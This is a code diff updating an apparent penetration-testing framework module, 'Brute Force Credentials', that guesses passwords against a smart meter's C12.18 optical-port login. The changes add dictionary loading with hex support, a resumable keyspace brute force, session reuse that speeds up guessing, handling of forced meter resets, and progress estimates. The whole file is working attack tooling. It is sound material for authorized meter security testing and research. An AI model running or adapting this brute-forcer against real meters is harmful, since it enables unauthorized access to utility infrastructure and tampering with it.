@@ -18,35 +18,16 @@
 #  MA 02110-1301, USA.
 
 from framework.templates import optical_module_template
-from framework.utils import StringGenerator
-from binascii import unhexlify
-from time import sleep
+from framework.utils import StringGenerator, WordList
+from c1219.errors import C1219IOError
+from time import sleep, time
+import datetime
 import os
-import re
-
-class BruteForce:
-	def __init__(self, dictionary_path = None):
-		if dictionary_path == None:
-			self.dictionary = None
-		else:
-			self.dictionary = open(dictionary_path, 'r')
-	
-	def __iter__(self):
-		if self.dictionary == None:
-			for password in StringGenerator(20):
-				yield password
-		else:
-			password = self.dictionary.readline()
-			while password:
-				yield password
-				password = self.dictionary.readline()
-			self.dictionary.close()
-		raise StopIteration
 
 class Module(optical_module_template):
 	def __init__(self, *args, **kwargs):
 		optical_module_template.__init__(self, *args, **kwargs)
-		self.version = 3
+		self.version = 4
 		self.author = [ 'Spencer McIntyre <smcintyre@securestate.net>' ]
 		self.description = 'Brute Force Credentials'
 		self.detailed_description = 'This module is used for brute forcing credentials on the smart meter.  Passwords are not limited to ASCII values and in order to test the entire character space the user will have to provide a dictionary of hex strings and set USEHEX to true.'
@@ -56,8 +37,10 @@ class Module(optical_module_template):
 		self.options.addInteger('USERID', 'user id to attempt to log in as', default = 1)
 		
 		self.advanced_options.addBoolean('PUREBRUTE', 'perform a pure bruteforce', default = False)
+		self.advanced_options.addInteger('BRUTESTART', 'the keyspace index to start a pure bruteforce at', default = 0)
 		self.advanced_options.addBoolean('STOPONSUCCESS', 'stop after the first successful login', default = True)
 		self.advanced_options.addFloat('DELAY', 'time in seconds to wait between attempts', default = 0.20)
+		self.advanced_options.addBoolean('REUSESESSION', 'send only the password between attempts when possible', default = True)
 	
 	def run(self):
 		conn = self.frmwk.serial_connection
@@ -71,58 +54,150 @@ class Module(optical_module_template):
 		
 		if len(username) > 10:
 			self.frmwk.print_error('Username cannot be longer than 10 characters')
-			return
+			return False
 		if not (0 <= userid <= 0xffff):
 			self.frmwk.print_error('User id must be between 0 and 0xffff')
-			return
+			return False
 		
 		if not pure_brute:
 			if not os.path.isfile(dictionary_path):
 				self.frmwk.print_error('Can not find dictionary path')
-				return
-			pw_generator = BruteForce(dictionary_path)
+				return False
+			pw_generator = WordList(dictionary_path, usehex = usehex, max_length = 20)
+			self.frmwk.print_status('Checking the dictionary, please wait...')
+			pw_count = len(pw_generator)
+			if pw_generator.invalid_lines:
+				logger.error('invalid characters found while searching for hex on line ' + str(pw_generator.invalid_lines[0]))
+				self.frmwk.print_error('Invalid characters found while searching for hex on ' + str(len(pw_generator.invalid_lines)) + ' line(s), the first is line ' + str(pw_generator.invalid_lines[0]))
+				return False
+			if pw_generator.skipped:
+				logger.warning('skipping ' + str(pw_generator.skipped) + ' passwords due to length (can not be exceed 20 bytes)')
+			if pw_generator.duplicates:
+				logger.info('skipping ' + str(pw_generator.duplicates) + ' duplicate passwords')
+			self.frmwk.print_status('Loaded ' + str(pw_count) + ' unique passwords from the dictionary')
 		else:
 			self.frmwk.print_status('A pure brute force will take a very very long time')
 			usehex = True # if doing a prue brute force, it has to be True
-			pw_generator = BruteForce()
+			pw_generator = StringGenerator(20, start = self.advanced_options.getOptionValue('BRUTESTART'))
+			pw_count = None
+			if pw_generator.start:
+				self.frmwk.print_status('Resuming the brute force at keyspace index: ' + str(pw_generator.start))
 		
-		hex_regex = re.compile('^([0-9a-fA-F]{2})+$')
+		# when enabled, a failed password will be followed by another security
+		# request in the same session instead of a terminate, ident, negotiate
+		# and logon sequence, see try_password for how the meter is checked
+		self.reuse_session = self.advanced_options.getOptionValue('REUSESESSION')
+		self.session_active = False
+		self.session_attempts = 0
+		self.rejection_code = None
 		
 		self.frmwk.print_status('Starting brute force')
-		
+		try:
+			self.brute_force(conn, pw_generator, pw_count, username, userid, usehex, time_delay)
+		except KeyboardInterrupt as error:
+			if pure_brute:
+				self.frmwk.print_status('Interrupted, set BRUTESTART to ' + str(pw_generator.position) + ' to resume')
+			raise error
+		return
+	
+	def brute_force(self, conn, pw_generator, pw_count, username, userid, usehex, time_delay):
+		logger = self.logger
+		start_time = time()
+		attempts = 0
 		for password in pw_generator:
-			if not pure_brute:
-				if usehex:
-					password = password.strip()
-					if hex_regex.match(password) == None:
-						logger.error('invalid characters found while searching for hex')
-						self.frmwk.print_error('Invalid characters found while searching for hex')
-						return
-					password = unhexlify(password)
-				else:
-					password = password.rstrip()
-			if len(password) > 20:
-				if usehex:
-					logger.warning('skipping password: ' + password.encode('hex') + ' due to length (can not be exceed 20 bytes)')
-				else:
-					logger.warning('skipping password: ' + password + ' due to length (can not be exceed 20 bytes)')
-				continue
-			while not conn.start():
-				sleep(time_delay)
-			sleep(time_delay)
-			if conn.login(username, userid, password):
+			if pw_count:
+				self.report_progress(attempts, pw_count, start_time)
+			attempts += 1
+			status = self.try_password(conn, username, userid, password, time_delay)
+			if status == 0:
 				if usehex:
 					self.frmwk.print_good('Successfully logged in. Username: ' + username + ' Userid: ' + str(userid) + ' Password: ' + password.encode('hex'))
 				else:
 					self.frmwk.print_good('Successfully logged in. Username: ' + username + ' Userid: ' + str(userid) + ' Password: ' + password)
+				self.end_session(conn, time_delay)
 				if self.advanced_options.getOptionValue('STOPONSUCCESS'):
-					conn.stop()
 					break
+				continue
 			if usehex:
 				logger.warning('Failed logged in. Username: ' + username + ' Userid: ' + str(userid) + ' Password: ' + password.encode('hex'))
 			else:
 				logger.warning('Failed logged in. Username: ' + username + ' Userid: ' + str(userid) + ' Password: ' + password)
-			while not conn.stop():
+			if self.session_active and not self.reuse_session:
+				self.end_session(conn, time_delay)
+			else:
 				sleep(time_delay)
-			sleep(time_delay)
+		if self.session_active:
+			self.end_session(conn, time_delay)
 		return
+
+	def begin_session(self, conn, username, userid, time_delay):
+		"""
+		Start a new session with the meter and send the logon request, the
+		password is sent separately by send_password.
+		"""
+		while not conn.start():
+			sleep(time_delay)
+		sleep(time_delay)
+		if not conn.login(username, userid):
+			self.logger.error('the meter rejected the username and userid')
+			conn.stop()
+			return False
+		self.session_active = True
+		self.session_attempts = 0
+		return True
+	
+	def end_session(self, conn, time_delay):
+		while not conn.stop():
+			sleep(time_delay)
+		sleep(time_delay)
+		self.session_active = False
+	
+	def send_password(self, conn, password, userid):
+		"""
+		Send a security request and return the response code from the
+		meter, 0 indicates that the password was accepted.
+		"""
+		self.session_attempts += 1
+		return conn.send_password(password, userid)
+	
+	def try_password(self, conn, username, userid, password, time_delay):
+		"""
+		Attempt to log in with a single password and return the response
+		code from the meter.  If the previous attempt failed and the session
+		is still open, only the security request is sent.  A rejection in a
+		reused session must match the rejection received in a fresh session,
+		anything else means the meter forced a reset and the password is
+		retried after starting a new session.
+		"""
+		if self.session_active:
+			try:
+				status = self.send_password(conn, password, userid)
+			except C1219IOError:
+				status = None
+			if status == 0 or (status != None and status == self.rejection_code):
+				return status
+			if self.session_attempts == 2:
+				# the very first repeated request was refused, don't try again
+				self.logger.warning('the meter does not accept repeated security requests, resetting the session between attempts')
+				self.reuse_session = False
+			else:
+				self.logger.info('the meter forced a session reset after ' + str(self.session_attempts - 1) + ' attempts')
+			self.end_session(conn, time_delay)
+		if not self.begin_session(conn, username, userid, time_delay):
+			return None
+		status = self.send_password(conn, password, userid)
+		if status != 0:
+			self.rejection_code = status
+		return status
+
+	def report_progress(self, attempts, total, start_time):
+		"""
+		Print the progress and estimated time remaining after every 5% of
+		the total number of attempts.
+		"""
+		interval = max(total // 20, 1)
+		if attempts == 0 or attempts % interval:
+			return
+		elapsed = time() - start_time
+		remaining = int((elapsed / attempts) * (total - attempts))
+		self.frmwk.print_status('Tried ' + str(attempts) + ' of ' + str(total) + ' passwords (' + str((attempts * 100) // total) + '%), estimated time remaining: ' + str(datetime.timedelta(seconds = remaining)))